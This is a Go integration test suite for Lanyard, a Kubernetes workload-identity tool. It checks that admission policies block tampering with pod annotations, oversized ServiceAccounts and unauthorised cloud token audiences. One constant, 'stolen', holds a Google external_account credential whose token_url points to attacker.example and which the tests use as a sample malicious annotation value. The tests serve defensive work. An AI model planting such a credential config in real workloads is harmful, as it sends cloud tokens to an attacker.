// Copyright The Lanyard Authors.
// SPDX-License-Identifier: Apache-2.0

package integration

import (
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"slices"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	authenticationv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/rand"
	"k8s.io/client-go/kubernetes"
	clientcorev1 "k8s.io/client-go/kubernetes/typed/core/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/lanyard-dev/lanyard/internal/provider"
	"github.com/lanyard-dev/lanyard/pkg/annotations"
	"github.com/lanyard-dev/lanyard/test/support/webhook"
)

// marksDenied is how a denial of the fence around the marks begins.
const marksDenied = "ValidatingAdmissionPolicy 'lanyard-guard-marks' with binding 'lanyard-guard-marks' denied request: lanyard: the annotations lanyard.dev/injected,"

// marks are the annotations that Lanyard writes on a pod.
var marks = func() []string {
	s, err := annotations.NewSettings(provider.Builtin())
	if err != nil {
		panic(err)
	}
	return s.Marks()
}()

// stolen contains Google credentials that send the token to an attacker.
const stolen = `{"type":"external_account","token_url":"https://attacker.example/"}`

// change is a merge patch of a pod's metadata and status.
type change struct {
	Metadata struct {
		Annotations map[string]*string `json:"annotations,omitempty"`
		Labels      map[string]*string `json:"labels,omitempty"`
	} `json:"metadata,omitzero"`
	Status *corev1.PodStatus `json:"status,omitempty"`
}

// withAnnotation is a change of one annotation. Nil removes it.
func withAnnotation(key string, value *string) change {
	var c change
	c.Metadata.Annotations = map[string]*string{key: value}
	return c
}

// patch applies a change to a pod, or to one of its subresources.
func (c change) patch(ctx context.Context, user kubernetes.Interface, pod *corev1.Pod, subresources ...string) error {
	GinkgoHelper()
	text, err := json.Marshal(c)
	Expect(err).NotTo(HaveOccurred())
	_, err = user.CoreV1().Pods(pod.Namespace).Patch(ctx, pod.Name, types.MergePatchType, text, metav1.PatchOptions{}, subresources...)
	return err
}

// statusWriter returns a client of a user who may write the status of pods in the
// namespace, and nothing else, as network plugins may.
func statusWriter(ctx context.Context, namespace string) kubernetes.Interface {
	GinkgoHelper()
	name := "status-writer-" + namespace
	rbac := cluster.client.RbacV1()
	_, err := rbac.Roles(namespace).Create(ctx, &rbacv1.Role{
		ObjectMeta: metav1.ObjectMeta{Name: name},
		Rules:      []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"pods/status"}, Verbs: []string{"patch"}}},
	}, metav1.CreateOptions{})
	Expect(err).NotTo(HaveOccurred())
	_, err = rbac.RoleBindings(namespace).Create(ctx, &rbacv1.RoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: name},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: name},
		Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: name}},
	}, metav1.CreateOptions{})
	Expect(err).NotTo(HaveOccurred())
	config, err := cluster.plane.User(name)
	Expect(err).NotTo(HaveOccurred())
	client, err := kubernetes.NewForConfig(config)
	Expect(err).NotTo(HaveOccurred())
	return client
}

var _ = Describe("The marks on a pod", policies, Ordered, ContinueOnFailure, func() {
	var injected, plain *corev1.Pod
	users := map[string]kubernetes.Interface{}
	BeforeAll(func(ctx SpecContext) {
		namespace := newNamespace(ctx)
		account := threeClouds()
		account["lanyard.dev/aws-role-arn.audit"] = "arn:aws:iam::111122223333:role/audit"
		labelledAccount(ctx, namespace, "app", account)
		injected = createPod(ctx, namespace, newPod("injected", "app", 1))
		Expect(slices.Collect(maps.Keys(injected.Annotations))).To(ContainElements(marks))
		plain = createPod(ctx, namespace, newPod("plain", "default", 1))
		users[""], users["status"] = cluster.client, statusWriter(ctx, namespace)
		// The API server learns of the role and of the fence from watches.
		probe := createPod(ctx, namespace, newPod("probe", "default", 1))
		Eventually(ctx, func(ctx context.Context) error {
			return withAnnotation("lanyard.dev/injected", new(rand.String(8))).patch(ctx, users["status"], probe, "status")
		}).Within(startTimeout).Should(MatchError(ContainSubstring(marksDenied)))
	})

	denied := func(err error) {
		GinkgoHelper()
		Expect(apierrors.IsForbidden(err)).To(BeTrue(), "%v", err)
		Expect(err).To(MatchError(ContainSubstring(marksDenied)))
	}
	// patch changes the pod as an administrator, or its status as a user who may write
	// nothing else.
	patch := func(ctx context.Context, through string, pod *corev1.Pod, c change) error {
		GinkgoHelper()
		if through == "" {
			return c.patch(ctx, users[through], pod)
		}
		return c.patch(ctx, users[through], pod, through)
	}

	for _, through := range []string{"", "status"} {
		where := map[string]string{"": "the pod", "status": "its status"}[through]
		It("include the label, through "+where, func(ctx SpecContext) {
			withLabel := func(value *string) (c change) {
				c.Metadata.Labels = map[string]*string{"lanyard.dev/identity": value}
				return c
			}
			denied(patch(ctx, through, injected, withLabel(nil)))
			denied(patch(ctx, through, injected, withLabel(new("other"))))
			denied(patch(ctx, through, plain, withLabel(new("injected"))))
			Expect(patch(ctx, through, injected, withLabel(new("injected")))).To(Succeed(), "it stays")
		})
		for _, mark := range marks {
			It("cannot be changed through "+where+": "+mark, func(ctx SpecContext) {
				denied(patch(ctx, through, injected, withAnnotation(mark, new(stolen))))
			})
			It("cannot be removed through "+where+": "+mark, func(ctx SpecContext) {
				denied(patch(ctx, through, injected, withAnnotation(mark, nil)))
			})
			It("cannot be added through "+where+": "+mark, func(ctx SpecContext) {
				denied(patch(ctx, through, plain, withAnnotation(mark, new(stolen))))
			})
			It("cannot be changed together with the status through "+where+": "+mark, func(ctx SpecContext) {
				c := withAnnotation(mark, new(stolen))
				c.Status = &corev1.PodStatus{Message: "x"}
				denied(patch(ctx, through, injected, c))
			})
		}

		It("do not hold up other annotations and labels through "+where, func(ctx SpecContext) {
			for _, pod := range []*corev1.Pod{injected, plain} {
				c := withAnnotation("cni.example/addresses", new("192.0.2.1"))
				Expect(patch(ctx, through, pod, c)).To(Succeed())
				for _, key := range []string{"cni.example/addresses", "lanyard.dev/skip-containers"} {
					Expect(patch(ctx, through, pod, withAnnotation(key, new("x")))).To(Succeed())
					Expect(patch(ctx, through, pod, withAnnotation(key, nil))).To(Succeed())
				}
				c.Metadata.Labels = map[string]*string{"a": new("b")}
				Expect(patch(ctx, through, pod, c)).To(Succeed())
			}
		})
	}

	It("do not hold up the status", func(ctx SpecContext) {
		for _, pod := range []*corev1.Pod{injected, plain} {
			status := &corev1.PodStatus{Phase: corev1.PodRunning, Conditions: []corev1.PodCondition{{Type: corev1.PodReady, Status: corev1.ConditionTrue}}}
			Expect(patch(ctx, "status", pod, change{Status: status})).To(Succeed())
			stored, err := cluster.client.CoreV1().Pods(pod.Namespace).Get(ctx, pod.Name, metav1.GetOptions{})
			Expect(err).NotTo(HaveOccurred())
			Expect(stored.Status.Phase).To(Equal(corev1.PodRunning))
		}
	})

	It("may be written again as they are", func(ctx SpecContext) {
		for _, mark := range marks {
			Expect(patch(ctx, "status", injected, withAnnotation(mark, new(injected.Annotations[mark])))).To(Succeed())
		}
	})

	It("cannot be added by a user that binds a pod to a node", func(ctx SpecContext) {
		for _, mark := range marks {
			for _, pod := range []*corev1.Pod{injected, plain} {
				binding := &corev1.Binding{
					ObjectMeta: metav1.ObjectMeta{Name: pod.Name, Annotations: map[string]string{mark: stolen}},
					Target:     corev1.ObjectReference{Kind: "Node", Name: "node"},
				}
				denied(cluster.client.CoreV1().Pods(pod.Namespace).Bind(ctx, binding, metav1.CreateOptions{}))
				denied(cluster.client.CoreV1().RESTClient().Post().Namespace(pod.Namespace).Resource("bindings").Body(binding).Do(ctx).Error())
			}
		}
		labelled := &corev1.Binding{
			ObjectMeta: metav1.ObjectMeta{Name: plain.Name, Labels: map[string]string{"lanyard.dev/identity": "injected"}},
			Target:     corev1.ObjectReference{Kind: "Node", Name: "node"},
		}
		denied(cluster.client.CoreV1().Pods(plain.Namespace).Bind(ctx, labelled, metav1.CreateOptions{}))
		binding := &corev1.Binding{
			ObjectMeta: metav1.ObjectMeta{Name: plain.Name, Annotations: map[string]string{"scheduler.example/score": "1"}},
			Target:     corev1.ObjectReference{Kind: "Node", Name: "node"},
		}
		Expect(cluster.client.CoreV1().Pods(plain.Namespace).Bind(ctx, binding, metav1.CreateOptions{})).To(Succeed())
		Expect(cluster.client.CoreV1().Pods(injected.Namespace).Bind(ctx, &corev1.Binding{
			ObjectMeta: metav1.ObjectMeta{Name: injected.Name}, Target: binding.Target,
		}, metav1.CreateOptions{})).To(Succeed())
	})

	// The API server drops changes of metadata there. The fence also covers these
	// subresources, in case this changes.
	It("stay as they are through the other subresources", func(ctx SpecContext) {
		served, err := cluster.client.Discovery().ServerResourcesForGroupVersion("v1")
		Expect(err).NotTo(HaveOccurred())
		for _, subresource := range []string{"ephemeralcontainers", "resize"} {
			isIt := func(r metav1.APIResource) bool { return r.Name == "pods/"+subresource }
			if !slices.ContainsFunc(served.APIResources, isIt) {
				Expect(subresource).To(Equal("resize"), "Kubernetes before 1.33 only lacks this one")
				continue
			}
			for _, mark := range marks {
				err := withAnnotation(mark, new(stolen)).patch(ctx, cluster.client, injected, subresource)
				Expect(err).To(Or(Succeed(), MatchError(ContainSubstring(marksDenied))), subresource)
			}
		}
		stored, err := cluster.client.CoreV1().Pods(injected.Namespace).Get(ctx, injected.Name, metav1.GetOptions{})
		Expect(err).NotTo(HaveOccurred())
		for _, mark := range marks {
			Expect(stored.Annotations).To(HaveKeyWithValue(mark, injected.Annotations[mark]))
		}
	})

	It("do not hold up a new ephemeral container", func(ctx SpecContext) {
		pod, err := cluster.client.CoreV1().Pods(injected.Namespace).Get(ctx, injected.Name, metav1.GetOptions{})
		Expect(err).NotTo(HaveOccurred())
		pod.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{
			Name: "debug", Image: "image", TerminationMessagePolicy: corev1.TerminationMessageReadFile, ImagePullPolicy: corev1.PullIfNotPresent,
		}}}
		_, err = cluster.client.CoreV1().Pods(pod.Namespace).UpdateEphemeralContainers(ctx, pod.Name, pod, metav1.UpdateOptions{})
		Expect(err).NotTo(HaveOccurred())
	})
})

var _ = Describe("A ServiceAccount with the label", policies, func() {
	const denial = "ValidatingAdmissionPolicy 'lanyard-guard-serviceaccounts' with binding 'lanyard-guard-serviceaccounts' denied request: lanyard: a ServiceAccount with the label lanyard.dev/identity can have at most 128 "
	// account returns a labelled ServiceAccount with n annotations.
	account := func(n int) *corev1.ServiceAccount {
		object := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "app", Annotations: map[string]string{"lanyard.dev/audience": "vault"}}}
		object.Labels = map[string]string{"lanyard.dev/identity": "enabled"}
		for i := range n - 1 {
			object.Annotations[fmt.Sprintf("a/%d", i)] = ""
		}
		return object
	}
	var api clientcorev1.ServiceAccountInterface
	BeforeEach(func(ctx SpecContext) {
		api = cluster.client.CoreV1().ServiceAccounts(newNamespace(ctx))
		Eventually(ctx, func(ctx context.Context) error {
			_, err := api.Create(ctx, account(1000), dryRun)
			return err
		}).Within(startTimeout).Should(MatchError(ContainSubstring(denial)))
	})

	DescribeTable("is not large: it has at most 128 in total, with its label and the entry of its field manager, of",
		func(ctx SpecContext, grow func(*corev1.ServiceAccount, int)) {
			large := account(1)
			grow(large, 125)
			_, err := api.Create(ctx, large, dryRun)
			Expect(err).NotTo(HaveOccurred())
			larger := account(1)
			grow(larger, 126)
			_, err = api.Create(ctx, larger, dryRun)
			Expect(err).To(MatchError(ContainSubstring(denial)))
			_, err = api.Create(ctx, account(1), metav1.CreateOptions{})
			Expect(err).NotTo(HaveOccurred())
			_, err = api.Update(ctx, larger, metav1.UpdateOptions{DryRun: dryRun.DryRun})
			Expect(err).To(MatchError(ContainSubstring(denial)), "also later")
		},
		Entry("annotations", func(a *corev1.ServiceAccount, n int) { maps.Copy(a.Annotations, account(n+1).Annotations) }),
		Entry("labels", func(a *corev1.ServiceAccount, n int) {
			for i := range n {
				a.Labels[fmt.Sprintf("a/%d", i)] = ""
			}
		}),
		Entry("secrets", func(a *corev1.ServiceAccount, n int) {
			for i := range n {
				a.Secrets = append(a.Secrets, corev1.ObjectReference{Name: fmt.Sprintf("a%d", i)})
			}
		}),
		Entry("imagePullSecrets", func(a *corev1.ServiceAccount, n int) {
			for i := range n {
				a.ImagePullSecrets = append(a.ImagePullSecrets, corev1.LocalObjectReference{Name: fmt.Sprintf("a%d", i)})
			}
		}),
		Entry("finalizers", func(a *corev1.ServiceAccount, n int) {
			for i := range n {
				a.Finalizers = append(a.Finalizers, fmt.Sprintf("example.com/a%d", i))
			}
		}),
		Entry("owners", func(a *corev1.ServiceAccount, n int) {
			for i := range n {
				a.OwnerReferences = append(a.OwnerReferences, metav1.OwnerReference{APIVersion: "v1", Kind: "ConfigMap", Name: fmt.Sprintf("a%d", i), UID: types.UID(fmt.Sprint(i))})
			}
		}),
	)

	It("is not large either if a user has set the label to required", func(ctx SpecContext) {
		large := account(1000)
		large.Labels["lanyard.dev/identity"] = "required"
		_, err := api.Create(ctx, large, dryRun)
		Expect(err).To(MatchError(ContainSubstring(denial)))
	})

	It("can lose the label, be deleted and be without it, whatever its size is", func(ctx SpecContext) {
		large := account(1000)
		delete(large.Annotations, "lanyard.dev/audience")
		large.Labels = nil
		_, err := api.Create(ctx, large, metav1.CreateOptions{})
		Expect(err).NotTo(HaveOccurred(), "without the label")
		small := account(1)
		small.Name, small.Finalizers = "small", []string{"example.com/held"}
		_, err = api.Create(ctx, small, metav1.CreateOptions{})
		Expect(err).NotTo(HaveOccurred())
		unlabelled := large.DeepCopy()
		unlabelled.Name, unlabelled.ResourceVersion = "small", ""
		_, err = api.Update(ctx, unlabelled, metav1.UpdateOptions{DryRun: dryRun.DryRun})
		Expect(err).NotTo(HaveOccurred(), "label and annotations go, others come")
		Expect(api.Delete(ctx, "small", metav1.DeleteOptions{})).To(Succeed())
		held, err := api.Get(ctx, "small", metav1.GetOptions{})
		Expect(err).NotTo(HaveOccurred())
		maps.Copy(held.Annotations, large.Annotations)
		_, err = api.Update(ctx, held, metav1.UpdateOptions{DryRun: dryRun.DryRun})
		Expect(err).NotTo(HaveOccurred(), "while it is being deleted")
	})

	// The match conditions of the webhook for ServiceAccounts read all annotations.
	// If they were too many for it, failurePolicy Fail would deny the write.
	It("does not hold up others that have as many annotations as the API server accepts", func(ctx SpecContext) {
		large := account(15000)
		delete(large.Annotations, "lanyard.dev/audience")
		large.Labels = nil
		_, err := api.Create(ctx, large, dryRun)
		Expect(err).NotTo(HaveOccurred())
	})
})

// The component token-audiences is optional, so it is installed only here.
var _ = Describe("The audiences of tokens", policies, Ordered, ContinueOnFailure, func() {
	const (
		denial    = "ValidatingAdmissionPolicy 'lanyard-token-audiences' with binding 'lanyard-token-audiences' denied request: lanyard: a token for "
		aws       = "sts.amazonaws.com"
		azure     = "api://AzureADTokenExchange"
		gcp       = "https://iam.googleapis.com/" + pool
		otherPool = "https://iam.googleapis.com/projects/999/locations/global/workloadIdentityPools/pool/providers/cluster"
	)
	var namespace string
	BeforeAll(func(ctx SpecContext) {
		objects, err := webhook.ReadManifest("../../deploy/components/token-audiences/policy.yaml")
		Expect(err).NotTo(HaveOccurred())
		Expect(objects).To(HaveLen(2))
		c, err := client.New(cluster.plane.Config(), client.Options{})
		Expect(err).NotTo(HaveOccurred())
		for _, object := range objects {
			Expect(c.Create(ctx, object)).To(Succeed())
			DeferCleanup(func(ctx SpecContext) { Expect(c.Delete(ctx, object)).To(Succeed()) })
		}
		namespace = newNamespace(ctx)
		for name, annotations := range map[string]map[string]string{
			"audience":       {"lanyard.dev/audience": "vault"},
			"aws":            {"lanyard.dev/aws-role-arn": role},
			"azure":          {"lanyard.dev/azure-client-id": clientID, "lanyard.dev/azure-tenant-id": tenantID},
			"gcp":            {"lanyard.dev/gcp-workload-identity-provider": pool},
			"gcp-with-https": {"lanyard.dev/gcp-workload-identity-provider": gcp},
			"clouds":         threeClouds(),
			"own-audience":   {"lanyard.dev/aws-role-arn": role, "lanyard.dev/aws-audience": azure},
			"plain-audience": {"lanyard.dev/audience": otherPool},
		} {
			labelledAccount(ctx, namespace, name, annotations)
		}
		// The API server learns of ServiceAccounts from a watch, of this one last.
		labelledAccount(ctx, namespace, "plain", nil)
		Eventually(ctx, func(ctx context.Context) error {
			return tryPod(ctx, namespace, withToken(newPod("pod", "plain", 1), aws))
		}).Within(startTimeout).Should(MatchError(ContainSubstring(denial + "AWS")))
	})

	cases := map[string]struct {
		account, audience string
		denied            string // the cloud
	}{
		"AWS, without annotations":                      {"plain", aws, "AWS"},
		"Azure, without annotations":                    {"plain", azure, "Azure"},
		"Google Cloud, without annotations":             {"plain", gcp, "Google Cloud"},
		"Google Cloud without https, unannotated":       {"plain", "//iam.googleapis.com/" + pool, "Google Cloud"},
		"AWS in China, without annotations":             {"plain", aws + ".cn", "AWS"},
		"Azure for the US government, unannotated":      {"plain", azure + "USGov", "Azure"},
		"AWS, with a plain audience":                    {"audience", aws, "AWS"},
		"AWS, with Azure's annotations":                 {"azure", aws, "AWS"},
		"Azure, with the annotations of AWS":            {"aws", azure, "Azure"},
		"Google Cloud, with the annotations of AWS":     {"aws", gcp, "Google Cloud"},
		"another provider of Google Cloud":              {"gcp", otherPool, "Google Cloud"},
		"AWS, with its annotation":                      {"aws", aws, ""},
		"Azure, with its annotation":                    {"azure", azure, ""},
		"Google Cloud, with its annotation":             {"gcp", gcp, ""},
		"Google Cloud without https, annotated":         {"gcp", "//iam.googleapis.com/" + pool, ""},
		"Google Cloud, with a provider that has https:": {"gcp-with-https", gcp, ""},
		"another audience, without annotations":         {"plain", "vault", ""},
		"the API server's audience":                     {"plain", "", ""},
		"the annotated audience of a provider":          {"own-audience", azure, ""},
		"the annotated audience of a plain token":       {"plain-audience", otherPool, ""},
	}
	for _, name := range slices.Sorted(maps.Keys(cases)) {
		c := cases[name]
		expected := map[bool]string{true: "allowed: ", false: "denied: "}[c.denied == ""] + name
		check := func(err error) {
			GinkgoHelper()
			if c.denied == "" {
				Expect(err).NotTo(HaveOccurred())
				return
			}
			Expect(apierrors.IsForbidden(err)).To(BeTrue(), "%v", err)
			Expect(err).To(MatchError(And(ContainSubstring(denial+c.denied+" needs the annotation "), HaveSuffix(" on the ServiceAccount "+namespace+"/"+c.account))))
		}
		It("in a pod, "+expected, func(ctx SpecContext) {
			pod := withToken(newPod("pod", c.account, 1), c.audience)
			pod.Annotations = map[string]string{"lanyard.dev/inject": "false"} // the token is the pod's own
			check(tryPod(ctx, namespace, pod))
		})
		It("in a token request, "+expected, func(ctx SpecContext) {
			check(requestToken(ctx, cluster.client, namespace, c.account, c.audience))
		})
	}

	It("hold for the pod's own ServiceAccount only", func(ctx SpecContext) {
		Expect(tryPod(ctx, namespace, withToken(newPod("pod", "default", 1), aws))).To(MatchError(HaveSuffix(namespace + "/default")))
	})

	// The API server writes null for the sources.
	It("allow a projected volume without sources", func(ctx SpecContext) {
		pod := newPod("pod", "plain", 1)
		pod.Annotations = map[string]string{"lanyard.dev/inject": "false"}
		pod.Spec.Volumes = []corev1.Volume{{Name: "empty", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{}}}}
		Expect(tryPod(ctx, namespace, pod)).To(Succeed())
	})

	It("hold for each token of a pod", func(ctx SpecContext) {
		pod := withToken(withToken(newPod("pod", "plain", 1), "vault"), aws)
		Expect(tryPod(ctx, namespace, pod)).To(MatchError(ContainSubstring(denial + "AWS")))
		pod = newPod("pod", "plain", 1)
		pod.Spec.Volumes = []corev1.Volume{{Name: "tokens", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{Sources: []corev1.VolumeProjection{
			{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "a", Audience: "vault"}},
			{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "b", Audience: azure}},
		}}}}}
		Expect(tryPod(ctx, namespace, pod)).To(MatchError(ContainSubstring(denial + "Azure")))
		err := requestToken(ctx, cluster.client, namespace, "plain", "vault", gcp)
		Expect(err).To(MatchError(ContainSubstring(denial + "Google Cloud")))
	})

	It("let the pods through that Lanyard injects", func(ctx SpecContext) {
		for _, account := range []string{"audience", "aws", "azure", "gcp", "gcp-with-https", "clouds", "own-audience", "plain-audience"} {
			pod, err := cluster.client.CoreV1().Pods(namespace).Create(ctx, newPod("pod", account, 1), dryRun)
			Expect(err).NotTo(HaveOccurred(), account)
			Expect(pod.Annotations).To(HaveKey("lanyard.dev/injected"))
		}
	})

	It("are not limited for kubelets, so that running pods keep their tokens", func(ctx SpecContext) {
		config, err := cluster.plane.User("system:node:node", "system:nodes", "system:masters")
		Expect(err).NotTo(HaveOccurred())
		node, err := kubernetes.NewForConfig(config)
		Expect(err).NotTo(HaveOccurred())
		Expect(requestToken(ctx, node, namespace, "plain", aws)).To(Succeed())
	})

	It("are not limited in namespaces that opt out", func(ctx SpecContext) {
		name := newNamespace(ctx)
		object, err := cluster.client.CoreV1().Namespaces().Get(ctx, name, metav1.GetOptions{})
		Expect(err).NotTo(HaveOccurred())
		object.Labels["lanyard.dev/inject"] = "disabled"
		// Until the API server knows a ServiceAccount of the namespace, it denies with another message.
		Eventually(ctx, func(ctx context.Context) error {
			return requestToken(ctx, cluster.client, name, "default", aws)
		}).Within(startTimeout).Should(MatchError(ContainSubstring(denial)))
		_, err = cluster.client.CoreV1().Namespaces().Update(ctx, object, metav1.UpdateOptions{})
		Expect(err).NotTo(HaveOccurred())
		Eventually(ctx, func(ctx context.Context) error {
			return requestToken(ctx, cluster.client, name, "default", aws)
		}).Within(startTimeout).Should(Succeed())
	})
})

// withToken adds a volume with a token to the pod.
func withToken(pod *corev1.Pod, audience string) *corev1.Pod {
	pod.Spec.Volumes = append(pod.Spec.Volumes, corev1.Volume{
		Name: fmt.Sprintf("own-%d", len(pod.Spec.Volumes)),
		VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{Sources: []corev1.VolumeProjection{
			{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "token", Audience: audience}},
		}}},
	})
	return pod
}

// requestToken requests a token, as kubectl create token does.
func requestToken(ctx context.Context, user kubernetes.Interface, namespace, account string, audiences ...string) error {
	request := &authenticationv1.TokenRequest{}
	if !slices.Equal(audiences, []string{""}) {
		request.Spec.Audiences = audiences
	}
	_, err := user.CoreV1().ServiceAccounts(namespace).CreateToken(ctx, account, request, metav1.CreateOptions{})
	return err
}
